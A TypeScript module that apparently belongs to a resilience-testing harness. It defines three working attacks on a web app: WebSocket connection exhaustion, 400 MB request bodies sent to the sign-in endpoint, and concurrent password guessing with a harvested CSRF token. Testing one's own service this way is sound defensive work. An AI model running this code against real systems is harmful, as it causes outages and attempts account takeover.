import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { manyAtOnce } from "../pace";
import { openRequest, sendBody, untilEnded } from "../raw-request";
import { ATTACKER_ADDRESS, type Attack, type Target } from "../target";

const SOCKETS = 6_000;
const AT_ONCE = 50;
const BODIES = 12;
const PIECE = Buffer.alloc(1024 * 1024, "a");
const PIECES = 400;
const GUESSERS = 50;

function openWithoutAnswering({ url, meeting }: Target): Promise<Socket> {
  const { hostname, port, pathname, search } = new URL(meeting.url.replace(/^ws/, "http"));
  const socket = connect({ port: Number(port), host: hostname, localAddress: ATTACKER_ADDRESS });
  socket.on("error", () => undefined);
  socket.write(
    `GET ${pathname}${search} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nOrigin: ${url}\r\n` +
      "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n" +
      "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
  );
  return new Promise((resolve) => {
    socket.once("data", () => resolve(socket));
    socket.once("close", () => resolve(socket));
  });
}

/** Opens sockets without a session, and never answers the frame that closes them. */
export const DOORSTEP: Attack = {
  name: "doorstep",
  words: "nobody opens 6,000 sockets and does not answer their closing",
  alsoPeers: true,
  kind: null,
  async fire(target, isOver) {
    const open = new Set<Socket>();
    const one = async (): Promise<void> => {
      if (open.size >= SOCKETS) {
        await pause(50);
        return;
      }
      const socket = await openWithoutAnswering(target);
      if (socket.destroyed) return;
      open.add(socket);
      socket.resume();
      socket.once("close", () => open.delete(socket));
    };
    await manyAtOnce(AT_ONCE, one, isOver);
    for (const socket of open) socket.destroy();
  },
};

/** Sends bodies that nobody asked for. */
export const BODIES_FOR_NOBODY: Attack = {
  name: "bodies",
  words: "nobody sends bodies of 400 MB to the sign-in",
  alsoPeers: false,
  kind: null,
  async fire({ url }, isOver) {
    const one = async (): Promise<void> => {
      const asked = openRequest(url, {
        method: "POST",
        path: "/api/auth/callback/credentials",
        headers: { "content-type": "application/x-www-form-urlencoded" },
      });
      const answered = new AbortController();
      const ended = untilEnded(asked, isOver).then(() => answered.abort());
      for (let at = 0; at < PIECES && !answered.signal.aborted; at += 1) {
        if (asked.write(PIECE)) continue;
        await Promise.race([new Promise((resolve) => asked.once("drain", resolve)), ended]);
      }
      asked.end();
      await ended;
    };
    await manyAtOnce(BODIES, one, isOver);
  },
};

/** Guesses passwords, and makes the server look each of them up. */
export const GUESSES: Attack = {
  name: "guesses",
  words: "nobody guesses passwords of many accounts, fifty at a time",
  alsoPeers: false,
  kind: null,
  async fire({ url, coders }, isOver) {
    const csrf = await fetch(`${url}/api/auth/csrf`).catch(() => null);
    const cookie =
      csrf?.headers
        .getSetCookie()
        .map((line) => line.split(";")[0])
        .join("; ") ?? "";
    const { csrfToken = "" } = ((await csrf?.json().catch(() => null)) ?? {}) as {
      csrfToken?: string;
    };
    const guess = (number: number): Promise<void> => {
      const email = coders[number % coders.length]?.email ?? "nobody@example.org";
      const body = new URLSearchParams({ csrfToken, email, password: `guess ${Math.random()}` });
      return sendBody(
        url,
        {
          method: "POST",
          path: "/api/auth/callback/credentials",
          headers: { cookie, "content-type": "application/x-www-form-urlencoded" },
        },
        body.toString(),
        isOver,
      );
    };
    await manyAtOnce(GUESSERS, guess, isOver);
  },
};
